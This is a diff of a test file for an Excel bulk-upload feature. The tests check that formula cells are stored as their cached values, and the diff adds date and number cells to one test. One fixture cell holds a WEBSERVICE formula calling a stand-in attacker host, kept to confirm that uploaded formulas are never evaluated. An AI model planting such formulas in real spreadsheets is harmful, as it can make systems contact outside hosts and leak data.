@@ -127,10 +127,15 @@ describe.each(TEST_ENGINES)('bulk case creation on %s', (engine) => {
       Mobile: { formula: 'CONCATENATE("98765","43210")', result: '9876543210' },
       'Unique ID': i === 0 ? { formula: 'A1&"x"', result: 'FORMULA-1' } : 'PLAIN-2',
       City: { formula: 'WEBSERVICE("http://attacker.example/")', result: 'Pune' },
+      // A date cell and a number cell, as Excel stores what a person types there.
+      'Date of Birth': new Date(Date.UTC(1985, 3, 12)),
+      'Sum Assured': 500000,
     }));
     expect((await upload(bytes)).json()).toMatchObject({ isSuccess: true, createdCount: 2 });
-    const rows = await s.db.query<{ phone: string; city: string }>(`SELECT phone, request_json->>'city' AS city FROM esales_case WHERE member_id = 'FORMULA-1'`);
-    expect(rows).toEqual([{ phone: '9876543210', city: 'Pune' }]);
+    const rows = await s.db.query<{ phone: string; city: string; dob: string; sum: string }>(
+      `SELECT phone, request_json->>'city' AS city, request_json->>'dateOfBirth' AS dob, request_json->>'sumAssured' AS sum FROM esales_case WHERE member_id = 'FORMULA-1'`,
+    );
+    expect(rows).toEqual([{ phone: '9876543210', city: 'Pune', dob: '1985-04-12', sum: '500000' }]);
   });
 
   it('refuses what is not an excel, a zip bomb and an entity declaration before parsing, creating nothing', async () => {
